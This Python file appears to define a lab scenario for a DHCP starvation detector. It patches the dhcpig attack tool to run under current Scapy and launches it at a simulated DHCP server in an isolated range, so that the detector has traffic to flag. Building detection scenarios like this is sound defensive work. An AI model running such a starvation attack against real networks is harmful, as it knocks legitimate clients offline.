"""dhcpig takes every address of a DHCP server."""

import re
from pathlib import Path

from lab import servers
from lab.range import Range
from lab.scenario import Scenario


def mended(program: str) -> str:
    """Debian's dhcpig as Debian's Scapy takes it: it refuses values that are too long or of another kind."""
    program = program.replace("flags=0xFFFFFF", "flags=0xFFFF").replace('("param_req_list","pad"),', "")
    program = re.sub(r'\("param_req_list", chr.*\)\),', '("param_req_list", [1, 3, 6, 15]),', program)
    program = program.replace('("client_id", chr(1), mac2str(m))', '("client_id", b"\\x01" + mac2str(m))')
    return program.replace("(\"end\",'00000000000000')", '"end"')


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("dhcp")
    laptop = net.inside("laptop", address=False)
    servers.leases(server, "10.20.0.200", "10.20.0.245", "10.20.0.1")
    net.everyday()
    laptop.run("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", check=False)
    with net.attack(
        "dhcp-starvation",
        by=attacker,
        attackers=[attacker.mac],
        victims=[server],
        frames="udp dst port 67",
        responses="udp src port 67",
    ):
        pig = attacker.folder / "dhcpig"
        pig.write_text(mended(Path("/usr/bin/dhcpig").read_text()))
        net.tool(attacker, *f"/usr/bin/python3 {pig} -c -x 0.1 -z 1 eth0".split(), seconds=30)
    net.quiet(2)


SCENARIO = Scenario(
    name="dhcp-starvation-dhcpig",
    about="dhcpig asks with made-up MAC addresses until the DHCP server has no address left.",
    detectors=("dhcp-starvation",),
    tools={"dhcpig": "dhcpig", "udhcpc": "busybox"},
    snap_octets=600,
    run=run,
)
